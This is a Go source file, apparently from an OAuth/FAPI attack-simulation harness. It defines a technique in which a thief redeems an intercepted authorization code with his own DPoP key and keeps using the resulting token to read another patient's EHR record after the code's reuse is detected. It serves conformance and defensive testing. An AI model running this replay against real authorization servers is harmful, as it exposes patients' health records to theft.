package attacker

import (
	"context"
	"net/http"

	"thiefbox/sim/event"
)

var _ = register("L-05", Technique{
	Title: "A code's second use is noticed, and the first one's token lives on",
	Story: "The thief has a token request that never arrived, and redeems the code in it with a proof by his own key. The EHR tries again with the same " +
		"code: now the server knows that one of the two is a thief. He goes on with the token he has.",
	Reads:    []string{"RFC 6749 s4.1.2", "FAPI 2.0 SP 5.3.2.2-9, 6.8", "OIDF conformance suite, attempt-reuse-authorization-code-after-one-second"},
	Evidence: "The alarm of a code used twice, and then requests with the token that its first use yielded.",
	Needs:    []event.Vantage{event.TokenHeld},
	Run: func(ctx context.Context, g Ground) error {
		m, form, err := tokenRequest(g, event.TokenHeld, "authorization_code")
		if err != nil {
			return err
		}
		a, err := newApp(ctx, g, noCredentials)
		if err != nil {
			return err
		}
		redeem := func() (answer, error) {
			return a.withNonce(m.URL, func() (*http.Request, error) {
				proof, err := a.proof(http.MethodPost, m.URL, "").Sign(a.key)
				r := post(ctx, m.URL, form)
				r.Header = m.Header.Clone()
				if r.Header.Del("DPoP"); m.Header.Get("DPoP") != "" {
					r.Header.Set("DPoP", proof)
				}
				return r, err
			})
		}
		first, err := redeem()
		if err != nil {
			return err
		}
		t, err := readToken(first)
		if err != nil {
			return err
		}
		if _, err := redeem(); err != nil { // as the EHR would, which has the same request
			return err
		}
		_, err = a.read(ctx, record(g, stranger(g)), t)
		return err
	},
})
